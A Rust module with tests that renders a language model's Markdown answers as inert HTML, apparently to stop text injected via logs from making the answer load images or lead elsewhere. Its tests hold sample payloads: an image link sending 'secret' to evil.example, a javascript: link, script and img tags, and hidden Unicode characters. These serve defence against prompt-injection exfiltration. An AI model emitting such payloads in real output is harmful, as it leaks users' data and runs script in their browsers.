//! From a model's Markdown to HTML that loads nothing and leads nowhere: no images, no
//! HTML of its own, links as text with their host. Whoever writes into a log can write
//! into an answer.

use std::{
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::llm;

/// Nesting and markup are bounded by the text: longer answers are cut.
const LONGEST: usize = 64 << 10;

/// Tags that are kept, all without attributes.
const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// The second wall: whatever the renderer lets through has to pass this, too.
static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::empty();
    builder.tags(TAGS.iter().copied().collect::<HashSet<_>>());
    // "Empty" still lets some attributes through, like the number a list starts with.
    builder.generic_attributes(HashSet::new()).tag_attributes(HashMap::new());
    builder
});

/// The answer as HTML.
pub fn to_html(text: &str) -> String {
    let text = llm::visible(&text[..text.floor_char_boundary(LONGEST)]);
    let mut hosts: Vec<Option<String>> = Vec::new();
    let events = Parser::new_ext(&text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let harmless = events.flat_map(|event| match event {
        Event::Html(text) | Event::InlineHtml(text) => vec![Event::Text(text)],
        Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
            hosts.push(host(&dest_url));
            Vec::new()
        }
        Event::End(TagEnd::Image | TagEnd::Link) => match hosts.pop().flatten() {
            Some(host) => vec![Event::Text(CowStr::from(format!(" ({host})")))],
            None => Vec::new(),
        },
        other => vec![other],
    });
    let mut out = String::with_capacity(text.len() * 2);
    html::push_html(&mut out, harmless);
    CLEANER.clean(&out).to_string()
}

/// Where a link would lead.
fn host(url: &str) -> Option<String> {
    let url = url::Url::parse(url).ok()?;
    Some(url.host_str().map_or_else(|| format!("{}:", url.scheme()), str::to_owned))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::to_html;

    #[test]
    fn what_is_written_is_shown() {
        assert_eq!(
            to_html("**No** `disk` [1]\n\n1. a\n2. b"),
            "<p><strong>No</strong> <code>disk</code> [1]</p>\n<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"
        );
    }

    #[test]
    fn nothing_is_loaded_and_nothing_leads_away() {
        for (text, html) in [
            ("![x](https://evil.example/?q=secret)", "<p>x (evil.example)</p>\n"),
            ("[see](https://evil.example/a)", "<p>see (evil.example)</p>\n"),
            ("[see](javascript:alert(1))", "<p>see (javascript:)</p>\n"),
            ("<https://evil.example/a>", "<p>https://evil.example/a (evil.example)</p>\n"),
            ("<img src=https://evil.example>", "&lt;img src=https://evil.example&gt;"),
            ("a <script>alert(1)</script>", "<p>a &lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
            ("7. a", "<ol>\n<li>a</li>\n</ol>\n"),
            ("a\u{202e}b\u{200b}c\u{e0041}", "<p>abc</p>\n"),
        ] {
            assert_eq!(to_html(text).trim_end(), html.trim_end(), "{text}");
        }
    }

    proptest! {
        #[test]
        fn no_attribute_survives(text in r#"[\[\]()!<>a-z"'=:/ \n`*_#|&;-]{0,80}"#) {
            let html = to_html(&text);
            for (at, _) in html.match_indices('<') {
                let tag = &html[at..=at + html[at..].find('>').unwrap()];
                prop_assert!(
                    tag.trim_matches(['<', '>', '/']).trim().chars().all(|c| c.is_ascii_alphanumeric()),
                    "{tag} in {html}"
                );
            }
        }
    }
}
